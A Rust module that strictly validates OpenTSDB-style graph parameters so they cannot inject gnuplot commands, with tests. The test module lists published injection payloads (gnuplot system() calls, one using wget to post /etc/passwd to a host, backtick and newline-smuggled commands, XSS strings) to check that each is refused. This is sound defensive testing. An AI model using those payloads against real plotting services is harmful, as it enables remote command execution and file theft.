//! The parameters of a graph, read as what they are: numbers, colours and words of short lists.
//!
//! OpenTSDB wrote them into a script of a plotting program and was broken through them three times (CVE-2018-12972,
//! CVE-2020-35476, CVE-2023-25826). Here a parameter that is not wholly of its type is a bad request, and its text is
//! not repeated in the answer.

use super::super::error::ApiError;
use super::super::params::Params;
use super::format::{NumberFormat, TimeFormat};
use super::look::{Across, AxisLook, Down, Key, Look, Rgb, Smooth, Style};

/// Smallest and largest side of a graph, and its largest size, in pixels.
const SIDE_PIXELS: std::ops::RangeInclusive<u32> = 100..=4_096;
const PIXELS_MAX: u32 = 4 << 20;
/// Longest title or label, and longest format.
const LABEL_BYTES_MAX: usize = 256;
const FORMAT_BYTES_MAX: usize = 64;

const KEY_WORDS: &[&str] = &["out", "left", "top", "center", "right", "horiz", "box", "bottom"];
const STYLES: &[(&str, Style)] = &[
    ("linespoint", Style::LinesAndPoints),
    ("points", Style::Points),
    ("circles", Style::Circles),
    ("dots", Style::Dots),
];
/// `gnuplot`'s words. Those that are no curve and no sum join the points as they are.
const SMOOTHS: &[(&str, Smooth)] = &[
    ("unique", Smooth::Straight),
    ("frequency", Smooth::Straight),
    ("fnormal", Smooth::Straight),
    ("cumulative", Smooth::Cumulative),
    ("cnormal", Smooth::Cumulative),
    ("bins", Smooth::Straight),
    ("csplines", Smooth::Curve),
    ("acsplines", Smooth::Curve),
    ("mcsplines", Smooth::Curve),
    ("bezier", Smooth::Curve),
    ("sbezier", Smooth::Curve),
    ("unwrap", Smooth::Straight),
    ("zsort", Smooth::Straight),
];

/// Reads how a graph is to look. Of a parameter given twice the last counts, and each must be good.
///
/// # Errors
///
/// 400.
pub(crate) fn read(params: &Params) -> Result<Look, ApiError> {
    for (names, is_good, form) in RULES {
        for name in *names {
            if !params.all(name).all(|text| is_good(text.trim())) {
                return Err(ApiError::bad(format!("'{name}' was invalid. Must be {form}.")));
            }
        }
    }
    let last = |name: &str| params.last(name).map(str::trim);
    let mut look = Look::default();
    if let Some((width, height)) = last("wxh").and_then(size) {
        (look.width, look.height) = (width, height);
    }
    last("title").unwrap_or_default().clone_into(&mut look.title);
    axis(&mut look.left, last("yrange"), last("ylabel"), last("yformat"), params.has("ylog"));
    axis(&mut look.right, last("y2range"), last("y2label"), last("y2format"), params.has("y2log"));
    look.time = last("xformat").filter(|text| !text.is_empty()).and_then(TimeFormat::parse);
    if let Some(text) = last("key") {
        look.key = Some(key(text));
    }
    if params.has("nokey") {
        look.key = None;
    }
    if let Some(text) = last("bgcolor") {
        look.background = colour(text);
    }
    if let Some(colour) = last("fgcolor").and_then(colour) {
        look.foreground = colour;
    }
    look.style = last("style").and_then(|text| word(STYLES, text)).unwrap_or(look.style);
    look.smooth = last("smooth").and_then(|text| word(SMOOTHS, text)).unwrap_or(look.smooth);
    Ok(look)
}

/// Which queries are drawn against the axis on the right, by the parameters `o`, one a query.
pub(crate) fn on_the_right(params: &Params) -> Vec<bool> {
    params.all("o").map(|text| text.contains("x1y2")).collect()
}

type Rule = (&'static [&'static str], fn(&str) -> bool, &'static str);

const RULES: &[Rule] = &[
    (
        &["wxh"],
        |text| text.is_empty() || size(text).is_some(),
        "WIDTHxHEIGHT, each from 100 to 4096, together 4 million",
    ),
    (&["yrange", "y2range"], |text| range(text).is_some(), "in the format [min:max]"),
    (&["ylabel", "y2label", "title"], is_label, "letters, digits and plain punctuation"),
    (&["yformat", "y2format"], is_number_format, "conversions such as %.2f or %.1s%c"),
    (&["xformat"], is_time_format, "conversions such as %Y/%m/%d"),
    (&["key"], is_key, "words such as out, right, top"),
    (
        &["bgcolor"],
        |text| text == "transparent" || colour(text).is_some(),
        "a hex value e.g. 'xFFFFFF', or transparent",
    ),
    (&["fgcolor"], |text| colour(text).is_some(), "a hex value e.g. 'xFFFFFF'"),
    (&["style"], |text| word(STYLES, text).is_some(), "linespoint, points, circles or dots"),
    (&["smooth"], |text| word(SMOOTHS, text).is_some(), "the name of a smoothing"),
    (&["ylog", "y2log", "nokey"], |text| text.bytes().all(|byte| byte.is_ascii_alphanumeric()), "a switch"),
    (&["o"], |text| matches!(text, "" | "axis x1y1" | "axis x1y2"), "empty, 'axis x1y1' or 'axis x1y2'"),
];

fn axis(axis: &mut AxisLook, ends: Option<&str>, label: Option<&str>, format: Option<&str>, log: bool) {
    if let Some((low, high)) = ends.and_then(range) {
        (axis.low, axis.high) = (low, high);
    }
    label.unwrap_or_default().clone_into(&mut axis.label);
    if let Some(format) = format.filter(|text| !text.is_empty()).and_then(NumberFormat::parse) {
        axis.format = format;
    }
    axis.log = log;
}

fn size(text: &str) -> Option<(u32, u32)> {
    let side = |text: &str| text.parse().ok().filter(|side: &u32| SIDE_PIXELS.contains(side));
    let (width, height) = text.split_once('x')?;
    let (width, height) = (side(width)?, side(height)?);
    (width * height <= PIXELS_MAX).then_some((width, height))
}

/// `[min:max]`, either side empty for "as it comes".
fn range(text: &str) -> Option<(Option<f64>, Option<f64>)> {
    let (low, high) = text.strip_prefix('[')?.strip_suffix(']')?.split_once(':')?;
    let bound = |text: &str| -> Option<Option<f64>> {
        let text = text.trim_matches('"');
        if text.is_empty() {
            return Some(None);
        }
        let plain = text.bytes().all(|byte| byte.is_ascii_digit() || b"+-.eE".contains(&byte));
        text.parse().ok().filter(|number: &f64| plain && number.is_finite()).map(Some)
    };
    match (bound(low)?, bound(high)?) {
        (Some(low), Some(high)) if low >= high => None,
        ends => Some(ends),
    }
}

fn is_label(text: &str) -> bool {
    let plain = |letter: char| letter.is_alphanumeric() || " -_.,:/%()[]+*=#".contains(letter);
    text.len() <= LABEL_BYTES_MAX && text.chars().all(plain)
}

/// Conversions with separators between them.
fn is_plain_format(text: &str) -> bool {
    text.len() <= FORMAT_BYTES_MAX
        && text.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"% .:/-,".contains(&byte))
}

fn is_number_format(text: &str) -> bool {
    is_plain_format(text) && NumberFormat::parse(text).is_some()
}

fn is_time_format(text: &str) -> bool {
    is_plain_format(text) && TimeFormat::parse(text).is_some()
}

fn is_key(text: &str) -> bool {
    text.split(' ').filter(|word| !word.is_empty()).all(|word| KEY_WORDS.contains(&word))
}

fn key(text: &str) -> Key {
    let has = |word: &str| text.split(' ').any(|found| found == word);
    let across = match (has("left"), has("center")) {
        (true, _) => Across::Left,
        (false, true) if !has("right") => Across::Center,
        _ => Across::Right,
    };
    let down = match (has("bottom"), has("center")) {
        (true, _) => Down::Bottom,
        (false, true) if !has("top") && across != Across::Center => Down::Center,
        _ => Down::Top,
    };
    Key { outside: has("out"), boxed: has("box"), horizontal: has("horiz"), across, down }
}

fn colour(text: &str) -> Option<Rgb> {
    let digits = text.strip_prefix(['x', 'X']).filter(|digits| digits.len() == 6)?;
    let plain = digits.bytes().all(|byte| byte.is_ascii_hexdigit());
    let [_, red, green, blue] = u32::from_str_radix(digits, 16).ok().filter(|_| plain)?.to_be_bytes();
    Some((red, green, blue))
}

fn word<T: Copy>(words: &[(&str, T)], text: &str) -> Option<T> {
    words.iter().find(|(word, _)| *word == text).map(|(_, meaning)| *meaning)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read_all(parameters: &[(&str, &str)]) -> Result<Look, ApiError> {
        let escape = |uri: String, byte: u8| uri + &format!("%{byte:02X}");
        let uri = parameters
            .iter()
            .fold("/q?".to_owned(), |uri, (name, text)| text.bytes().fold(format!("{uri}&{name}="), escape));
        read(&Params::of(&uri.parse().unwrap()).unwrap())
    }

    /// `O-Q-PNG`.
    #[test]
    fn o_q_png_what_pages_send_is_taken() {
        let look = read_all(&[
            ("wxh", "1900x600"),
            ("yrange", "[-1.5e3:2]"),
            ("y2range", "[:10]"),
            ("ylabel", "ms"),
            ("title", "CPU of web01 (%)"),
            ("yformat", "%.2f"),
            ("xformat", "%Y/%m/%d %H:%M"),
            ("key", "out center right box"),
            ("bgcolor", "x0000FF"),
            ("fgcolor", "x00ff7f"),
            ("style", "dots"),
            ("smooth", "csplines"),
            ("y2log", ""),
        ])
        .unwrap();
        assert_eq!((look.width, look.height, look.title.as_str()), (1_900, 600, "CPU of web01 (%)"));
        assert_eq!(
            (look.left.low, look.left.high, look.right.low, look.right.high),
            (Some(-1_500.0), Some(2.0), None, Some(10.0))
        );
        assert_eq!((look.left.label.as_str(), look.left.log, look.right.log), ("ms", false, true));
        assert_eq!(look.left.format.show(1.0), "1.00");
        let key = Key { outside: true, boxed: true, horizontal: false, across: Across::Right, down: Down::Center };
        assert_eq!(look.key, Some(key));
        assert_eq!((look.background, look.foreground), (Some((0, 0, 255)), (0, 255, 127)));
        assert_eq!((look.style, look.smooth), (Style::Dots, Smooth::Curve));
        assert_eq!(read_all(&[]).unwrap(), Look::default());
        assert_eq!(read_all(&[("nokey", ""), ("key", "top")]).unwrap().key, None);
        assert_eq!(read_all(&[("bgcolor", "transparent")]).unwrap().background, None);
        for (name, text) in
            [("wxh", "4096x4096"), ("wxh", "99x100"), ("yrange", "[2:1]"), ("yformat", "%x"), ("o", "with lines")]
        {
            assert!(read_all(&[(name, text)]).is_err(), "{name}={text}");
        }
    }

    /// The payloads published for CVE-2018-12972, CVE-2020-35476, CVE-2023-25826, CVE-2023-36812 and CVE-2023-25827, on
    /// every parameter.
    #[test]
    fn a_payload_is_refused_wherever_it_stands() {
        for name in RULES.iter().flat_map(|(names, _, _)| *names) {
            for payload in [
                "[33:system('touch /tmp/poc.txt')]",
                "[33:system('wget --post-file /etc/passwd http://x')]",
                "`touch /tmp/poc`",
                "[0:`id`]",
                "out right top\nsystem \"touch /tmp/poc\"",
                "out right top%0asystem \"id\"",
                "%1$\nsystem(\"id\")",
                "x000000\nset output '/tmp/poc'",
                "1900x600;system('id')",
                "\"; system('id'); \"",
                "<script>alert(1)</script>",
                "<img src=x onerror=alert(1)>",
                "a\0b",
            ] {
                assert!(read_all(&[(name, payload)]).is_err(), "{name}={payload}");
            }
        }
    }
}
